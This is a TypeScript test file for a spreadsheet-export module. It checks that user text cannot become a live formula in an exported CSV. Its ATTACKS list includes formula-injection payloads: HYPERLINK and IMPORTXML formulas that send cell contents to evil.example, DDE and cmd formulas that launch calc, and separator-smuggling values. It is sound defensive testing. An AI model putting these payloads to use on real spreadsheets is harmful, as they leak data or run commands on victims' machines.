// What people write must not run in the spreadsheet of whoever exports it.
import assert from 'node:assert/strict';
import { it } from 'node:test';
import fc from 'fast-check';
import { cell, row } from '../../sdk/cli/export/spreadsheet.ts';

const FORMULA = /^["\s\0\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r]/;

/** Reads a sheet as RFC 4180 says, with any separator: what a program with other settings would see. */
function read(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let quoted = false;
  let current = '';
  const end = () => {
    rows.at(-1)!.push(current);
    current = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') current += text[i++];
    else if (char === '"' && (quoted || current === '')) quoted = !quoted;
    else if (!quoted && char === separator) end();
    else if (!quoted && (char === '\n' || char === '\r')) {
      if (char === '\r' && text[i + 1] === '\n') i++;
      end();
      rows.push([]);
    } else current += char;
  }
  return rows.filter((cells) => cells.length > 0);
}

/** An apostrophe before it makes it text. */
const runs = (value: string) => FORMULA.test(value);

const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  ' =1',
  '"=1',
  '""=1',
  "'=1",
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '\ufeff=1',
  '\u200b=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+49 30 1234',
  'Hello";=1+1;"',
  'Hello;=1+1',
  'Hello;"=1+1"',
  'Hello\n=1+1',
  'Hello\r\n@SUM(1)',
  'a\t=1',
];

it('no cell begins as a formula does, whichever separator its reader takes', () => {
  for (const attack of ATTACKS)
    for (const separator of [',', ';', '\t'])
      for (const cells of read(row(['id', attack, 'end']), separator))
        for (const value of cells)
          assert.ok(!runs(value), JSON.stringify([attack, separator, value]));
});

it('any text of any writing stays text', () => {
  const parts = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '"',
    "'",
    ';',
    ',',
    '\t',
    '\r',
    '\n',
    ' ',
    'a',
    '\0',
  );
  const text = fc.oneof(fc.string({ unit: parts, maxLength: 12 }), fc.string({ unit: 'binary' }));
  fc.assert(
    fc.property(text, fc.constantFrom(',', ';', '\t'), (value, separator) => {
      for (const cells of read(row(['id', value, 'end']), separator))
        for (const one of cells) assert.ok(!runs(one), JSON.stringify([value, separator, one]));
    }),
    { numRuns: 2_000 },
  );
});

it('what is harmless comes back as it was', () => {
  const texts = [
    'Where is my order?',
    'He said "hi", then left',
    'a\nb',
    '',
    'ä ü 漢字',
    '12.5 € - ok',
  ];
  assert.deepEqual(read(row(texts)), [texts]);
  assert.equal(cell(null), '""');
  assert.equal(cell(-5), '"-5"');
});
